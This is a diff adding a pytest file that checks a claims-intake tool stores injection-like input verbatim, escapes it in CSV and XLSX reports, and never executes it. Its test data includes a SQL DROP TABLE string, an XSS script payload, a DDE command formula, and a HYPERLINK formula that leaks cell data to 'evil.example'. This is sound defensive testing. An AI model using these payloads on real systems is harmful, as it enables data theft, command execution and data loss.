@@ -1,0 +1,88 @@
+"""Injection (SPEC §6): text that looks like SQL, HTML/script or a spreadsheet formula is
+stored verbatim, echoed back escaped, and never executed or rendered."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import openpyxl
+import pytest
+import sqlalchemy as sa
+
+from rma.db.engine import make_engine
+from tests.factories import valid_claim, write_csv, write_xlsx
+
+pytestmark = pytest.mark.prefect
+
+SQL = "x'); DROP TABLE claims; --"
+HTML = '<script>alert("rma")</script><img src=x onerror=alert(1)>'
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+            "-2+3", "@SUM(A1:A9)", "＝1+1"]
+
+
+def test_hostile_text_is_stored_verbatim_and_echoed_escaped(cli, workdir, db_url):
+    folder = workdir / "inbox" / "D-001"
+    folder.mkdir()
+    accepted = valid_claim(claim_ref="INJ-1", fault_description=SQL, notes=HTML,
+                           recipient_company=FORMULAS[0], site_address=FORMULAS[1])
+    rejected = [valid_claim(claim_ref=f"INJ-{n + 2}", recipient_email=formula,
+                            recipient_name=formula, notes=HTML)
+                for n, formula in enumerate(FORMULAS)]
+    write_csv(folder / "hostile.csv", [accepted, *rejected])  # text cells, as typed
+
+    run = cli("run-inbox", "--json")
+    assert run.code == 0, run.err
+    [batch] = run.json()["batches"]
+    assert (batch["claims_accepted"], batch["claims_rejected"]) == (1, len(FORMULAS))
+
+    # stored verbatim, and the SQL did nothing
+    listed = cli("claims", "list", "--json").json()["claims"]
+    [claim] = listed
+    assert claim["fault_description"] == SQL and claim["notes"] == HTML
+    assert claim["recipient_company"] == FORMULAS[0] and claim["site_address"] == FORMULAS[1]
+    engine = make_engine(db_url)
+    with engine.connect() as conn:
+        assert "claims" in sa.inspect(conn).get_table_names()
+    engine.dispose()
+
+    # echoed back escaped: no formula cell in the xlsx report, a leading ' in both reports
+    report = openpyxl.load_workbook(batch["reports"]["xlsx"])
+    cells = [c for ws in report.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    shown = {c.value for c in cells}
+    for formula in FORMULAS:
+        assert "'" + formula in shown, formula
+        assert formula not in shown
+    with Path(batch["reports"]["csv"]).open(encoding="utf-8-sig", newline="") as handle:
+        values = [row["value"] for row in csv.DictReader(handle)]
+    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "＝")]
+    assert {"'" + f for f in FORMULAS} <= set(values)
+
+    # the Prefect markdown never carries live HTML
+    markdown = _batch_markdown(batch["batch_id"])
+    assert "<script>" not in markdown and "<img" not in markdown
+
+
+def _batch_markdown(batch_id: str) -> str:
+    from prefect.artifacts import Artifact
+
+    key = "batch-" + "".join(ch if ch.isalnum() else "-" for ch in batch_id.lower())
+    artifact = Artifact.get(key)
+    assert artifact is not None, key
+    return str(artifact.data)
+
+
+def test_a_formula_cell_in_a_workbook_is_never_evaluated(cli, workdir):
+    """A real formula cell counts as its cached value (none here: blank), never as the
+    result of running it."""
+    folder = workdir / "inbox" / "D-001"
+    folder.mkdir()
+    path = write_xlsx(folder / "formulas.xlsx", [
+        valid_claim(claim_ref="F-1", recipient_name='=CONCATENATE("Ann","a")')])
+    run = cli("run-inbox", "--json")
+    [batch] = run.json()["batches"]
+    assert batch["claims_accepted"] == 0, path
+    [missing] = [r for r in batch["rejections"] if r["column"] == "recipient_name"]
+    assert missing["code"] == "MISSING_FIELD"
